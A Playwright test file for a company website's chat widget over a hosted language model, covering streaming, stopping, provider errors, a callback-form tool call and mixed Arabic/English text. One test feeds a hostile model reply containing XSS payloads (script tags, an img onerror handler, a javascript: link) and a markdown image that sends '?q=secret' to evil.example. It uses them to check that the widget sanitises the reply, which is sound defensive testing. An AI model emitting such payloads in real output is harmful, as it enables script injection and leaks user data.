/**
 * The chat over a hosted language model: streaming, stopping, faults midway, and malicious replies.
 */
import { startServer } from "#tests/support/built-server.ts";
import { chatWords, openChat } from "#tests/support/chat.ts";
import {
  answersWith,
  chunk,
  done,
  type Script,
  startModelProvider,
  streams,
  streamsAndDies,
} from "#tests/support/model-provider.ts";
import { expect, testAgainst } from "#tests/support/test.ts";

const hostile = [
  "<img src=https://evil.example/a.png onerror=\"document.title='owned'\"> <script>document.title='owned'</script>",
  "![picture](https://evil.example/?q=secret) [first](https://evil.example/) [second](javascript:document.title='owned')",
  "[third](//evil.example/x) [fourth](data:text/html,x) [fifth](/about) <style>*{display:none}</style>",
].join("\n\n");
const mixed =
  "نستخدم **Microsoft Azure** و`SQL Server` منذ 2019.\n\n- [خدمات الترحيل](/ar/services/networks)\n- Backup";

const says = (content: string) => streams(chunk({ content }), chunk({}, "stop"), done);

/** Sentences with their numbers, which come when the test says so. */
function answerAtLeisure() {
  const { promise: arrival, resolve } = Promise.withResolvers<Parameters<Script>[0]>();
  const script: Script = (response) => {
    response.writeHead(200, { "content-type": "text/event-stream" });
    resolve(response);
  };
  const write = async (from: number, to: number) => {
    const response = await arrival;
    for (let number = from; number <= to; number++)
      response.write(chunk({ content: `Sentence number ${number} of a long answer. ` }));
  };
  const end = async () => void (await arrival).end(chunk({}, "stop") + done);
  return { script, write, end };
}

const test = testAgainst(async () => {
  const provider = await startModelProvider();
  const settings = { OPENAI_API_KEY: "sk-a-test", OPENAI_BASE_URL: `http://127.0.0.1:${provider.port}/v1` };
  const server = await startServer({ env: { TRUST_PROXY: "1", ...settings } });
  const stop = async () => {
    await server.stop();
    provider.stop();
  };
  return { url: server.url, provider, stop };
});

test("the notice names a provider's model as what answers and gets the messages", async ({ page }) => {
  const { panel, words } = await openChat(page, "ar");
  await expect(panel).toContainText(words.notice.hosted);
  await expect(panel).not.toContainText(words.notice.embedded);
  await expect(panel.getByText(words.answeredBy.hosted, { exact: true })).toBeVisible();
});

test("an answer is read from its beginning while it arrives, and followed only by whoever goes to its end", async ({
  page,
  server: { provider },
}) => {
  const { ask, turns, log, words, panel } = await openChat(page, "en");
  const { script, write, end } = answerAtLeisure();
  provider.script(script);
  // Past the gateway, which ends what takes long.
  await page.route("**/v1/chat/completions", (route) =>
    route.continue({ url: `http://localhost:${provider.port}/v1/chat/completions` }),
  );
  await ask("Tell me at leisure");
  await write(1, 40);
  await expect(turns.nth(1)).toContainText("Sentence number 40 ");
  await expect(log).toHaveAttribute("aria-busy", "true");
  await expect(turns.first()).toBeInViewport({ ratio: 1 });
  const distance = () => log.evaluate((one) => one.scrollHeight - one.scrollTop - one.clientHeight);
  const latest = panel.getByRole("button", { name: words.latest });
  await latest.click();
  await expect.poll(distance).toBeLessThan(4);
  await expect(latest).toBeHidden();

  await log.hover();
  await page.mouse.wheel(0, -300);
  await expect(latest).toBeVisible();
  // The wheel has come to rest.
  await expect.poll(distance).toBeGreaterThanOrEqual(296);
  const top = await log.evaluate((one) => one.scrollTop);
  await write(41, 60);
  await expect(turns.nth(1)).toContainText("Sentence number 60 ");
  expect(await log.evaluate((one) => one.scrollTop)).toBe(top);
  await latest.click();
  await expect.poll(distance).toBeLessThan(4);
  await expect(latest).toBeHidden();
  await write(61, 80);
  await end();
  await expect(turns.nth(1)).toContainText("Sentence number 80 ");
  await expect(log).toHaveAttribute("aria-busy", "false");
  await expect.poll(distance).toBeLessThan(4);
});

test("a stopped answer stays in the conversation, and its call is ended", async ({ page, server: { provider } }) => {
  const { ask, stop, turns, input, words, error } = await openChat(page, "en");
  const { script, write } = answerAtLeisure();
  provider.script(script, says("Yes. We do that."));
  await ask("Tell me at leisure");
  await expect(stop).toBeFocused();
  await write(1, 4);
  await expect(turns.nth(1)).toContainText("Sentence number 4 ");
  const call = provider.calls.at(-1)!;
  await stop.press("Enter");
  await expect(stop).toHaveCount(0);
  await expect(input).toBeFocused();
  await expect(turns.nth(1)).toContainText(words.stopped);
  await expect(turns.nth(1)).toContainText("Sentence number 4 ");
  await expect(error).toHaveCount(0);
  await expect.poll(() => call.cutAt).toBeDefined();
  await ask("Anything else?");
  await expect(turns.nth(3)).toContainText("Yes. We do that.");
  const messages = provider.calls.at(-1)!.body.messages as { role: string; content: string }[];
  expect(messages.at(-2)).toMatchObject({ role: "assistant", content: expect.stringContaining("Sentence number 4 ") });
});

test("stopped before anything came, the question can be asked again", async ({ page, server: { provider } }) => {
  provider.script(says("Yes. We do that."));
  const { ask, stop, turns, panel, words, error } = await openChat(page, "en");
  await page.route("**/v1/chat/completions", () => undefined, { times: 1 });
  const call = page.waitForRequest("**/v1/chat/completions");
  await ask("Do you build apps?");
  await call;
  await stop.click();
  await expect(turns).toHaveCount(1);
  await expect(error).toHaveCount(0);
  await panel.getByRole("button", { name: words.again }).click();
  await expect(turns.nth(1)).toContainText("Yes. We do that.");
});

test.describe("a provider that fails", () => {
  test.use({ allowedProblems: [/status of 401/] });

  test("is the notice below what came of an answer, and nothing of its own words", async ({
    page,
    server: { provider },
  }) => {
    const refusal = { error: { message: "words of the provider", type: "x" } };
    provider.script(streamsAndDies(chunk({ content: "Sentence number one." })), answersWith(401, refusal));
    const { ask, turns, panel, error, input } = await openChat(page, "en");
    await ask("One that dies");
    await expect(turns.nth(1)).toContainText("Sentence number");
    await expect(error).toContainText("Failed to get response from AI. Please try again.");
    await expect(turns).toHaveCount(2);
    await expect(turns.nth(1)).toContainText("Sentence number");
    await expect(input).toBeEnabled();

    await ask("You are refused");
    await expect(error).toHaveCount(2);
    await expect(error.last()).toContainText("Failed to get response from AI. Please try again.");
    await expect(panel).not.toContainText(/words of the provider|API key/);
  });
});

test("a hostile reply is text: no element, no picture, no link but to our pages", async ({
  page,
  server: { provider },
}) => {
  provider.script(says(hostile));
  const { ask, turns } = await openChat(page, "en");
  const title = await page.title();
  await ask("Something hostile");
  const answer = turns.nth(1).locator(".chat-text");
  await expect(answer).toContainText("<img src=https://evil.example/a.png");
  await expect(answer).toContainText("<script>");
  await expect(answer.locator("img, script, style, iframe, svg, [onerror]")).toHaveCount(0);
  await expect(answer.getByRole("link")).toHaveText(["fifth"]);
  await expect(answer.getByRole("link")).toHaveAttribute("href", "/about");
  await expect(answer).toContainText("first second");
  expect(await page.title()).toBe(title);
});

test("the model's call of the tool fills in the card, and the visitor decides", async ({
  page,
  server: { provider },
}) => {
  const call = {
    name: "request_callback",
    arguments: '{"name":"Sara","phone":"+966551234567","preferred_time":"Sunday","topic":"Azure"}',
  };
  const tool_calls = [{ index: 0, id: "call_1", type: "function", function: call }];
  provider.script(streams(chunk({ tool_calls }), chunk({}, "tool_calls"), done));
  const posts: string[] = [];
  page.on("request", (request) => {
    if (request.url().endsWith("/api/leads")) posts.push(request.method());
  });
  const { ask, panel } = await openChat(page, "en");
  const { words, form } = chatWords("en");
  await ask("Please call me");
  const card = panel.getByRole("form", { name: words.callback.title });
  await expect(card.getByLabel(form.name, { exact: true })).toHaveValue("Sara");
  await expect(card.getByLabel(form.phone, { exact: true })).toHaveValue("+966551234567");
  await expect(card.getByLabel(words.callback.preferredTime, { exact: true })).toHaveValue("Sunday");
  await expect(card.getByLabel(words.callback.topic, { exact: true })).toHaveValue("Azure");
  expect(posts).toEqual([]);
  await expect(panel).not.toContainText(words.callback.filed);
  await card.getByRole("button", { name: words.callback.confirm }).click();
  await expect(panel.getByRole("heading", { name: words.callback.filed })).toBeVisible();
  expect(posts).toEqual(["POST"]);
});

test.describe("text of both directions", () => {
  test.use({ permissions: ["clipboard-read", "clipboard-write"] });

  test("mixes without disturbing each other, and is copied as it is read", async ({ page, server: { provider } }) => {
    provider.script(says(mixed));
    const { ask, turns, panel, words } = await openChat(page, "en");
    await ask("mixed");
    const answer = turns.nth(1).locator(".chat-text");
    await expect(answer.locator("p").first()).toHaveCSS("direction", "rtl");
    await expect(answer.locator("li").nth(0)).toHaveCSS("direction", "rtl");
    await expect(answer.locator("li").nth(1)).toHaveCSS("direction", "ltr");
    await expect(answer.locator("code")).toHaveCSS("direction", "ltr");
    await panel.getByRole("button", { name: words.copy }).click();
    await expect(panel.getByText(words.copied)).toBeVisible();
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(
      "نستخدم Microsoft Azure وSQL Server منذ 2019.\nخدمات الترحيل\nBackup",
    );
    await ask("سؤال عن ERP mixed");
    await expect(turns.nth(2).locator("p")).toHaveCSS("direction", "rtl");
  });
});
